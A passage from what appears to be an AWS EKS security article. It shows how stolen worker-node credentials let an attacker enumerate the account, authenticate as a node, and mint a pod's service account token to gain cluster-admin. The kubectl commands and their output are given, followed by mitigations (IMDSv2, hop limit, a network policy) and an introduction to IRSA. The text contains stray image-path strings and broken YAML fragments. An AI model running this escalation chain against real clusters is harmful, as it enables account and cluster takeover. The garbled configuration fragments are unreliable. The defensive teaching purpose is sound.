So, we’ve stolen AWS credentials from an EC2 instance acting as a worker node for our EKS cluster. What can we do with that?

😈 Enumerating the AWS account

In an EKS cluster, the worker nodes IAM role—not to be confused with the cluster IAM role—has three AWS managed policies attached: AmazonEKSWorkerNodePolicy, AmazonEC2ContainerRegistryReadOnly, and AmazonEKS_CNI_Policy. The resultingpermissions allow an attacker to perform actions such as:

  • pulling all container images from all ECR registries in the account;
  • listing and describing all EKS clusters, security groups, and EC2 instances in the account—in particular, this allows an attacker to access the instance user data which commonly contains hardcoded credentials;
  • detaching and removing any network interface (ENI) in the account, for denial of service purposes.

While these do not allow an attacker tofully compromise the account, they do represent a valuable attack vector.

😈 Authenticating as a worker node against the EKS API server

Remember how the EKS API server authenticates requests? It uses your AWS identity to determine the Kubernetes permissions one should be granted. Since we just compromised AWS credentials from the worker nodes, we can by design authenticate as a member of the system:nodes group!

aws eks update-kubeconfig --name $EKS_CLUSTER_NAME

This returns:User:   system:node:ip-192-168-69-116.eu-west-1.compute.internal

What else can we do from here? Although the system:nodes ClusterRole has powerful permissions (such as create pods), in reality, this is highly limited by the NodeRestriction admission controller (whose source code, available here, is pretty easy to read and understand). One permission that we can exploit is create serviceaccounts/token. In theory, this permission allows us to generate a service account token for any service account in the cluster. In practice, the NodeRestriction lets us generate service account tokens for any pod running on the node whose credentials we compromised. An Trinh from Calif.io describes how to achieve this in a blog post.

Let's do just that! Still using our compromised credentials, let's list the pods running on the node:

kubectl get pods --all-namespaces --field-selectorspec.nodeName=ip-192-168-69-116.eu-west-1.compute.internal

In our example, we have several pods in a microservices namespace that look interesting:

NAMESPACE          NAME                                                    READY   STATUS    RESTARTS   AGE
default            vulnerable-application                                  1/1     Running   0          3h10m
microservices      inventory-service                                       1/1     Running   0          6d19h
microservices      rate-limiter-1                                          1/1     Running   0          6d19h
microservices      rate-limiter-2                                          1/1     Running   0          6d19h
kafka              kafka-proxy                                             1/1     Running   0          6d19h

The inventory-service pod runs under a specific service account:

$ kubectl get -n microservices pod/inventory-service -o jsonpath='{.spec.serviceAccountName}'

Using our stolen node credentials, let's generate a service account token for inventory-service-sa and impersonate it. First, we find the UID of the pod:

$ kubectl get -n microservices pod/inventory-service -o jsonpath='{.metadata.uid}'

Then, we generate the service account token:

kubectl create token inventory-service-sa -n microservices \
  --bound-object-kind=Pod \
  --bound-object-name=inventory-service \
  --bound-object-uid=67498d10-add3-4d7c-9b9e-65dab5640872 > token

We get back a Kubernetes service account token for inventory-service-sa. We can now impersonate this service account to authenticate to the API server.

$ kubectl-whoami --token=$(cat token) --all
User:   system:serviceaccount:microservices:inventory-service-sa

$ kubectl auth can-i --list --token=$(cat token)Resources                                       Non-Resource URLs                     Resource Names     Verbs
*.*                                             []                                    [][*]
                                                [*]                                   []                 [*]

We were able to compromise a service account that happened to have administrator privileges over the cluster!


In this section, we discussed the impact of stolen worker node credentials through an SSRF vulnerability. These credentials allowed us not only to enumerate our AWS account and pull all container images available in ECR, but also to impersonate the Kubernetes service account of any pod running on the node.When a workload with a privileged service account is running, this vulnerability would allow an attacker to escalate to full cluster administrator permissions.

Mitigating the impact of SSRF vulnerabilities in EKS environments

In the previous section, we saw how an attacker can exploit SSRF vulnerabilities to impersonate the underlyingworker node, both on the AWS API and on the EKS API server, as well as impersonate pods running on the node.

In EKS environments, SSRFs to the instance metadata service are exploitable by default. In late 2019, following a well-known publicly documented data breach at a large US company, AWS released IMDSv2, a new version of the IMDS that makes this kind of vulnerability much harder to exploit.

However, its usage is not enforced by default. To enforce IMDSv2 on an EKS cluster, you'd have to create a node group with a launch template that either:

With IMDSv2 enforced on the worker nodes (enabling it is not enough), we can see that an attacker cannot exploit our vulnerable application anymore:

With IMDSv2 enforced, the IMDS endpoint requires retrieving a session token first, and providing it in subsequent requests - which an attacker generally cannot achieve through an SSRF vulnerability.
With IMDSv2 enforced, the IMDS endpoint requires retrieving a session tokenfirst, and providing it in subsequent requests - which an attacker generally cannot achieve through an SSRF vulnerability.

The impact of SSRFs is the symptom, not the disease

While enforcing IMDSv2 on our worker nodes is effective for preventing exploitation of SSRF vulnerabilities to steal node credentials from the IMDS, this is only solving a symptom of the underlying issue: Pods can access credentials of the worker nodes they're running on. In the next section, we'll discuss how to act on the root cause.

 Treating the disease: Preventing pods fromaccessing node credentials

We saw in the previous section that enforcing IMDSv2 on our worker nodes prevents exploitation of SSRF vulnerabilities to steal node credentials from the IMDS. However, not only is it challenging to enforce IMDSv2 on an existing cluster, it also does not solve the underlying issue: A pod should not be able to access AWS credentials of its underlying worker node.

To illustrate, let's access another page of our vulnerableapplication at It is vulnerable to a command injection vulnerability, allowing an attacker to execute arbitrary commands within the pod.

The underlying worker node has IMDSv2 enforced and does not let us directly hit the IMDS endpoint:

However, since we can run arbitrary commands in the pod, we can (by design) use IMDSv2 and steal credentials for the underlying worker node:

IMDSv2 requires passing an additional HTTP header with a dynamic value
IMDSv2 requires passing an additional HTTP header with adynamic value

How do we resolve this underlying problem? We have two options at our disposal; let's go through them.

Block access to the IMDS with a network policy

The first option is to use a Kubernetes network policy to block pod access to the IMDS at the network level. While the EKS CNI does not support network policies by default, it's easy enough to follow the AWS documentation to install the Calico network policy engine add-on.

Then, we can apply a GlobalNetworkPolicy that blocks any pod egress traffic to the IMDS cluster-wide:

apiVersion: projectcalico.org/v3
kind: GlobalNetworkPolicy
  name: block-imds-access
  selector: all()
  - Egress
  - action: Deny
      nets: []
  - action: Allow
      notNets: []

Note: If you have pods using the IMDS "by design" as a legacy way to authenticateagainst the AWS API, we'll see in a later section that there's a better way!

Enforce IMDSv2 and set the response hop limit to 1

This option requires IMDSv2 to be enforced (enabling it is not enough), which—as we saw previously—may turn out to be challenging. When enforced, it is possible to set an additional parameter, the response hop limit, to 1. This will cause the IMDS to deny any traffic coming from the pods.

Here's an example of a launch template configuration setting the right configuration. You would then configure your cluster to use a node group that uses this launch template.

resource "aws_launch_template" "eks-worker-node" {
  name = "eks-worker-node-launch-template"
  // ...

  metadata_options {
    http_endpoint               = "enabled"
    http_tokens                 = "required"
    http_put_response_hop_limit = 1


These two remediations are the best options to make sure pods cannot access credentials of the worker node they run on. We recommend starting with a network policy, which is simple to deploy and applies right away to the whole cluster, then enforcing IMDSv2 with a response hop limit of 1 on all worker nodes of your EKS cluster. Note that none of these mechanisms are effective against pods running with hostNetwork: true (by design).

 Authenticating Kubernetes workloads against AWS

Cloud-native applications are called "cloud-native" for a reason: Theytypically leverage services of the cloud provider they run on. Think of an application running in an EKS cluster, reading or writing files to an S3 bucket, or accessing data in a DynamoDB table. When our applications run on a wide range of different cloud services, how do we securely give our workloads access to the AWS API?

A brief history

Before 2019, there were two options available—neither of which was optimal, to say the least:

  1. Grant the permissions our workloads need to the instance role of the worker nodes, and let our Kubernetes workloads access the IMDS to use these credentials. Thistends to be highly risky, for two reasons:
  • As we saw in the previous sections, any pod can access the AWS credentials of its underlying worker node, and any pod can impersonate any other pod running on the same node.
  • Privileges are granted at the level of the worker node IAM role, meaning there's no way to assign differentcloud permissions to different workloads.
  1. Pass IAM user credentials to our workloads. Since long-lived, hardcoded credentials are one of the most common causes for data breaches, we want to avoid this option as much as possible—especially considering it comes with substantial operational overhead.

Thankfully, in September 2019 AWS released a new feature called IAM roles for service accounts (IRSA), which allows users to leverage the identity that workloads already have in Kubernetes to securely retrieve temporary AWS credentials.

Then, in November 2023, the EKS Pod Identity feature was introduced.

Overview of IAM roles for service accounts

IRSA works by creating an OpenID Connect (OIDC) provider in every EKS cluster. This OIDC provider uses the same private key as the managed Kubernetes control plane.

The OIDC provider of your cluster is publicly accessible and exposes the standard OIDC endpoints so that anyone using it can easily discover its public key and other necessary information.

  aws eks describe-cluster --name your-eks-cluster \
  --query cluster.identity.oidc.issuer --output text
$ echo $OIDC_URL

$ curl $OIDC_URL/.well-known/openid-configuration
  "issuer": "https://oidc.eks.eu-west-1.amazonaws.com/id/AF26D840E519D2F3902468224667D259",
  "jwks_uri": "https://oidc.eks.eu-west-1.amazonaws.com/id/AF26D840E519D2F3902468224667D259/keys",
  "authorization_endpoint": "urn:kubernetes:programmatic_authorization",
  "response_types_supported": [
  "subject_types_supported": [
  "claims_supported": [
  "id_token_signing_alg_values_supported": [

Just as with any external identity provider, we can use native AWS identity federation mechanisms to exchange signed JSON web tokens (JWTs) for temporary AWS credentials for any IAM role that trusts the identity provider. Let's see how this works in practice.

Using IAMroles for service accounts

In this section, we’ll see how to leverage IRSA as a user—we won't worry about how it works behind the scenes (yet).

First, we create an IAM role and configure the trust policy to trust the OIDC identity provider of our EKS cluster. Then, we instruct it to allow for credentials to be served to any pod running under the webserver-sa Kubernetes service account in the default namespace.

  "Effect": "Allow",
  "Principal": {
    "Federated": "arn:aws:iam::012345678901:oidc-provider/oidc.eks.us-east-1.amazonaws.com/id/OIDC-PROVIDER-ID"
  "Action": "sts:AssumeRoleWithWebIdentity",
  "Condition": {
    "StringEquals": {
      "oidc.eks.us-east-1.amazonaws.com/id/OIDC-PROVIDER-ID:aud": "sts.amazonaws.com",
      "oidc.eks.us-east-1.amazonaws.com/id/OIDC-PROVIDER-ID:sub": "system:serviceaccount:default:webserver-sa"

Note that aud stands for audience—we want to make sure the JWT was generated specifically to be used to retrieve AWS credentials. Similarly, sub stands for subject. This field has the format system:serviceaccount:<namespace>:<service-account-name>. Also note that you can automate creating the role with the right trust policy using eksctl iamserviceaccounts.

